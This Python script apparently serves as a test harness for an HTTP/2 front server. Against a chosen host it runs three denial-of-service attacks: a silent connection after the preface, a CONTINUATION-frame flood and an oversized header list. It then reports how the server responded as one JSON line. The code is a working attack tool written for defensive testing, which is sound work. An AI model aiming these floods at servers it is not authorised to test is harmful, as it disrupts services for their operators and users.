"""HTTP/2 attacks on a front, their frames made by hyperframe and hpack (the
frame and header-compression layers of PyPI's h2), for the edge tests:

  python h2_attack.py ATTACK HOST PORT SECONDS

  preface-silence     the client preface and SETTINGS, then nothing
  continuation-flood  HEADERS without END_HEADERS, then CONTINUATION frames
                      of 16 KiB for as long as the server takes them
  big-header-list     one request whose header list (128 KiB) is past any
                      sane limit, framed correctly over CONTINUATION frames

It sends for at most SECONDS, reads the server's frames until the
connection closes or SECONDS more pass, and prints one JSON line:
{"closed_after": seconds or null, "goaway": error code or null,
 "status": the :status of stream 1 or null, "rst_stream": error code or
 null, "sent": bytes sent}."""
import json
import socket
import sys
import threading
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (ContinuationFrame, Frame, GoAwayFrame, HeadersFrame,
                              RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHUNK = 16 * 1024


def request_block(encoder, extra=()):
    headers = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "x")]
    return encoder.encode(headers + list(extra))


def reader(sock, started, limit, seen):
    """Reads frames until the connection ends or `limit` passes."""
    buf, decoder = b"", Decoder()
    sock.settimeout(0.2)
    while time.monotonic() - started < limit:
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        except OSError:
            data = b""
        if not data:
            seen["closed_after"] = round(time.monotonic() - started, 3)
            return
        buf += data
        while len(buf) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buf[:9]))
            if len(buf) < 9 + length:
                break
            frame.parse_body(memoryview(buf[9:9 + length]))
            buf = buf[9 + length:]
            if isinstance(frame, GoAwayFrame):
                seen["goaway"] = frame.error_code
            elif isinstance(frame, RstStreamFrame) and frame.stream_id == 1:
                seen["rst_stream"] = frame.error_code
            elif isinstance(frame, HeadersFrame) and frame.stream_id == 1:
                seen["status"] = int(dict(decoder.decode(frame.data)).get(":status", 0))


def main():
    attack, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    sock = socket.create_connection((host, port))
    started = time.monotonic()
    seen = {"closed_after": None, "goaway": None, "status": None, "rst_stream": None, "sent": 0}
    read = threading.Thread(target=reader, args=(sock, started, 2 * seconds, seen))
    read.start()

    def send(data):
        try:
            sock.sendall(data)
            seen["sent"] += len(data)
            return True
        except OSError:
            return False

    send(PREFACE + SettingsFrame(0).serialize())
    encoder = Encoder()
    if attack == "continuation-flood":
        start = HeadersFrame(1, request_block(encoder))
        start.flags.add("END_STREAM")
        send(start.serialize())
        filler = encoder.encode([("x-flood", "a" * (CHUNK - 16))])
        while time.monotonic() - started < seconds and seen["closed_after"] is None:
            if not send(ContinuationFrame(1, filler).serialize()):
                break
    elif attack == "big-header-list":
        block = request_block(encoder, [(f"x-big-{i}", "b" * 1000) for i in range(128)])
        parts = [block[i:i + CHUNK] for i in range(0, len(block), CHUNK)]
        first = HeadersFrame(1, parts[0])
        first.flags.add("END_STREAM")
        frames = [first] + [ContinuationFrame(1, p) for p in parts[1:]]
        frames[-1].flags.add("END_HEADERS")
        send(b"".join(f.serialize() for f in frames))
    elif attack != "preface-silence":
        sys.exit(f"unknown attack {attack}")
    read.join()
    sock.close()
    print(json.dumps(seen), flush=True)


main()
